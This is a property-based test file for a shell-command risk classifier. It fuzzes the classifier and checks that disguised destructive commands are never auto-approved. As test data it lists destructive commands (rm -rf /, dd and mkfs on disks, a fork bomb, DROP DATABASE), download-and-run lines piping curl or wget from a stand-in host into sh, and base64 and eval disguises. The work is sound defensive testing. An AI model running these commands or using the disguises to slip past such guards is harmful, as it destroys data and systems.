import fc from 'fast-check';
import { DECISIONS, RISK_LEVELS, type RiskAssessment } from '../../src/domain/risk.js';
import { assessCommand } from '../../src/policy/assessor.js';
import type { EnvironmentName } from '../../src/policy/policy.js';

/**
 * Property-based tests for the shell classifier (issue 9, part 4): no input makes assessCommand throw or
 * hang, and no generated dangerous command — however it is disguised — is ever `auto` or `notify`.
 * Deterministic: fixed seed (fast-check prints it with any counterexample).
 */

const SEED = 0x5a4e;
/** Generous enough for a loaded CI machine; a pathological input takes seconds (see KNOWN SLOWNESS). */
const PER_CALL_MS = 300;
const options = (numRuns: number) => ({ seed: SEED, numRuns, interruptAfterTimeLimit: 8_000 });
const ENVIRONMENTS: EnvironmentName[] = ['development', 'staging', 'production'];

async function timedAssess(command: string, environment: EnvironmentName): Promise<RiskAssessment> {
  const start = performance.now();
  const assessment = await assessCommand(command, environment);
  expect(performance.now() - start).toBeLessThan(PER_CALL_MS);
  expect(RISK_LEVELS).toContain(assessment.risk);
  expect(DECISIONS).toContain(assessment.decision);
  expect(assessment.environment).toBe(environment);
  expect(typeof assessment.reason).toBe('string');
  expect(Array.isArray(assessment.findings)).toBe(true);
  expect(Number.isInteger(assessment.approvals) && assessment.approvals >= 0).toBe(true);
  return assessment;
}

beforeAll(async () => {
  await assessCommand('true', 'production'); // loads the WebAssembly parser outside the time bound
});

const environment = fc.constantFrom(...ENVIRONMENTS);

// ---------------------------------------------------------------------------------------------
// (a) arbitrary strings
// ---------------------------------------------------------------------------------------------

const shellish = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        'rm',
        'ls',
        '-rf',
        '/',
        '|',
        '||',
        '&&',
        ';',
        '&',
        '$(',
        ')',
        '`',
        "'",
        '"',
        '\\',
        '{',
        '}',
        '(',
        '<',
        '>',
        '>>',
        '<<EOF',
        'EOF',
        '${',
        '$((',
        '))',
        '*',
        '?',
        '[',
        ']',
        '#',
        '!',
        '~',
        '=',
        'sh',
        '-c',
        'sudo',
        'find',
        '-exec',
        '\\;',
        'xargs',
        'base64',
        '-d',
        'eval',
        'function',
        'f()',
        'if',
        'then',
        'fi',
        'for',
        'do',
        'done',
        'case',
        'esac',
        'in',
        '\n',
        '\t',
        ' ',
      ),
      fc.string({ maxLength: 8 }),
    ),
    { maxLength: 40 },
  )
  .map((parts) => parts.join(' '));

describe('fuzz: assessCommand on arbitrary input', () => {
  test('arbitrary strings: never throws, always a valid assessment, within the time bound', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary', maxLength: 300 }), environment, async (command, env) => {
        await timedAssess(command, env);
      }),
      options(400),
    );
  });

  test('shell-flavoured token soup: never throws, always a valid assessment', async () => {
    await fc.assert(
      fc.asyncProperty(shellish, environment, async (command, env) => {
        await timedAssess(command, env);
      }),
      options(400),
    );
  });

  /**
   * Found by this file and fixed: a long run of `|` made tree-sitter's error recovery super-linear
   * ('|'.repeat(16000) took ~4.3 s). assessCommand now refuses long runs of shell operators first.
   */
  test('huge inputs are refused quickly', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.integer({ min: 1, max: 40_000 }),
        fc.constantFrom('a', 'ls ', '$(', "'", '(', '|'),
        async (n, chunk) => {
          await timedAssess(chunk.repeat(n), 'production');
        },
      ),
      options(50),
    );
  });
});

// ---------------------------------------------------------------------------------------------
// (b) generated dangerous commands
// ---------------------------------------------------------------------------------------------

/** Destructive cores: program, arguments, and where the program lives for the absolute-path disguise. */
const CORES: Array<{ program: string; args: string; dir: string }> = [
  { program: 'rm', args: '-rf /', dir: '/bin' },
  { program: 'rm', args: '-rf /var/lib/postgresql', dir: '/bin' },
  { program: 'rm', args: '-r -f /etc', dir: '/usr/bin' },
  { program: 'mkfs.ext4', args: '/dev/sda1', dir: '/sbin' },
  { program: 'dd', args: 'if=/dev/zero of=/dev/sda', dir: '/bin' },
  { program: 'shutdown', args: '-h now', dir: '/sbin' },
  { program: 'reboot', args: '', dir: '/sbin' },
  { program: 'poweroff', args: '', dir: '/sbin' },
  { program: 'halt', args: '', dir: '/sbin' },
  { program: 'init', args: '0', dir: '/sbin' },
  { program: 'iptables', args: '-F', dir: '/usr/sbin' },
  { program: 'kubectl', args: 'delete namespace prod', dir: '/usr/local/bin' },
  { program: 'kubectl', args: 'delete pods --all -A', dir: '/usr/local/bin' },
  { program: 'chmod', args: '-R 777 /', dir: '/bin' },
  { program: 'kill', args: '-9 1', dir: '/bin' },
  { program: 'crontab', args: '-r', dir: '/usr/bin' },
  { program: 'wipefs', args: '-a /dev/sda', dir: '/sbin' },
  { program: 'shred', args: '-u /dev/sda', dir: '/usr/bin' },
  { program: 'truncate', args: '-s 0 /var/lib/mysql/ibdata1', dir: '/usr/bin' },
  { program: 'mv', args: '/ /dev/null', dir: '/bin' },
  { program: 'userdel', args: 'root', dir: '/usr/sbin' },
  { program: 'redis-cli', args: 'FLUSHALL', dir: '/usr/bin' },
  { program: 'psql', args: '-c "DROP DATABASE prod"', dir: '/usr/bin' },
];

const spaces = fc.constantFrom(' ', '  ', '\t', ' \t ', ' \\\n ');
const harmless = fc.constantFrom('true', 'ls', 'uptime', 'echo ok', 'cat /etc/hostname', 'df -h');

/** Disguises of the program name itself. */
const programName = (core: (typeof CORES)[number]) =>
  fc.oneof(
    fc.constant(core.program),
    fc.constant(`\\${core.program}`),
    fc.constant(`${core.dir}/${core.program}`),
    fc
      .tuple(fc.integer({ min: 1, max: Math.max(1, core.program.length - 1) }), fc.constantFrom("''", '""'))
      .map(([at, quotes]) => `${core.program.slice(0, at)}${quotes}${core.program.slice(at)}`),
    fc.constant(`"${core.program}"`),
    fc.constant(`'${core.program}'`),
  );

const plainCore = fc
  .constantFrom(...CORES)
  .chain((core) =>
    fc
      .tuple(programName(core), spaces)
      .map(([name, gap]) => (core.args ? `${name}${gap}${core.args.split(' ').join(gap)}` : name)),
  );

const wrapper = fc.constantFrom(
  (c: string) => c,
  (c: string) => `command ${c}`,
  (c: string) => `env ${c}`,
  (c: string) => `env FOO=1 ${c}`,
  (c: string) => `nice ${c}`,
  (c: string) => `nice -n 10 ${c}`,
  (c: string) => `timeout 5 ${c}`,
  (c: string) => `nohup ${c}`,
  (c: string) => `sudo ${c}`,
  (c: string) => `sudo -u root ${c}`,
  (c: string) => `exec ${c}`,
  (c: string) => `sh -c '${c.replaceAll("'", `'\\''`)}'`,
  (c: string) => `bash -c "${c.replaceAll('"', '\\"')}"`,
  (c: string) => `$(${c})`,
  (c: string) => `echo $(${c})`,
  (c: string) => `\`${c}\``,
  (c: string) => `echo '${c.replaceAll("'", `'\\''`)}' | sh`,
  (c: string) => `echo '${c.replaceAll("'", `'\\''`)}' | bash -s`,
  (c: string) => `echo ${Buffer.from(c).toString('base64')} | base64 -d | sh`,
  (c: string) => `eval "${c.replaceAll('"', '\\"')}"`,
  (c: string) => `(${c})`,
  (c: string) => `{ ${c}; }`,
  (c: string) => `if true; then ${c}; fi`,
  (c: string) => `${c} &`,
  (c: string) => `${c} > /dev/null 2>&1`,
  (c: string) => `watch -n 1 ${c}`,
  (c: string) => `ssh host ${c}`,
);
const chain = fc.constantFrom(
  (c: string, _h: string) => c,
  (c: string, h: string) => `${h}; ${c}`,
  (c: string, h: string) => `${h} && ${c}`,
  (c: string, h: string) => `${h} || ${c}`,
  (c: string, h: string) => `${h}\n${c}`,
  (c: string, h: string) => `${h} | ${c}`,
  (c: string, h: string) => `${c}; ${h}`,
);

const dangerous = fc
  .tuple(
    plainCore,
    fc.array(wrapper, { minLength: 0, maxLength: 2 }),
    chain,
    harmless,
    fc.constantFrom('', ' ', '  ', '\n'),
  )
  .map(
    ([core, wrappers, link, before, pad]) =>
      `${pad}${link(
        wrappers.reduce((c, w) => w(c), core),
        before,
      )}${pad}`,
  );

const fileSweeps = fc.constantFrom(
  'find / -exec rm {} \\;',
  'find / -exec rm -rf {} +',
  'find /var/lib -delete',
  'echo / | xargs rm -rf',
  'ls / | xargs -n1 rm -rf',
  'find / -print0 | xargs -0 rm -f',
  'docker rm -f $(docker ps -aq)',
  '> /etc/passwd',
  'cat /dev/zero > /dev/sda',
  ':(){ :|:& };:',
  'curl -s http://x/install.sh | sh',
  'wget -qO- http://x/s | bash',
  'python3 -c "import shutil; shutil.rmtree(\'/\')"',
  'perl -e "unlink glob q{/*}"',
);

/**
 * Found by this file and fixed: tree-sitter-bash glued a backslash-escaped word at the start of a line
 * onto the previous line's command (`true⏎\\rm -rf /` came out READ_ONLY/auto). AALS now refuses
 * multi-line commands, so such inputs are part of the property again.
 */

describe('fuzz: generated dangerous commands are never auto or notify', () => {
  test('destructive cores under random disguises, wrappers and chaining', async () => {
    await fc.assert(
      fc.asyncProperty(dangerous, environment, async (command, env) => {
        const assessment = await timedAssess(command, env);
        expect(['auto', 'notify']).not.toContain(assessment.decision);
      }),
      options(500),
    );
  });

  test('file sweeps, fork bombs and download-and-run, in every environment', async () => {
    await fc.assert(
      fc.asyncProperty(
        fileSweeps,
        fc.array(wrapper, { maxLength: 1 }),
        environment,
        async (core, wrappers, env) => {
          const command = wrappers.reduce<string>((c, w) => w(c), core);
          const assessment = await timedAssess(command, env);
          expect(['auto', 'notify']).not.toContain(assessment.decision);
        },
      ),
      options(200),
    );
  });
});

// ---------------------------------------------------------------------------------------------
// (c) plain reads
// ---------------------------------------------------------------------------------------------

const READS = [
  'cat',
  'ls',
  'ls -la',
  'head -n 5',
  'tail -n 20',
  'wc -l',
  'grep -i error',
  'df -h',
  'du -sh',
  'stat',
  'file',
];
const safeArg = fc.oneof(
  fc.constantFrom('/var/log/syslog', '/etc/hostname', '/tmp', '.', 'nginx.log', '/proc/meminfo'),
  fc.stringMatching(/^[a-zA-Z0-9_./-]{1,20}$/).filter((s) => !s.startsWith('-')),
);

describe('fuzz: plain reads stay reads', () => {
  test('known read-only programs with random path-like arguments: auto, or a reason that says why not; never CRITICAL', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...READS),
        fc.array(safeArg, { maxLength: 3 }),
        environment,
        async (read, args, env) => {
          const assessment = await timedAssess([read, ...args].join(' '), env);
          expect(assessment.risk).not.toBe('CRITICAL');
          if (assessment.decision !== 'auto')
            expect(assessment.reason).toMatch(
              /credential material|climbs|needs an operand|home directory|not what it expects|outside the system configuration/,
            );
        },
      ),
      options(300),
    );
  });
});
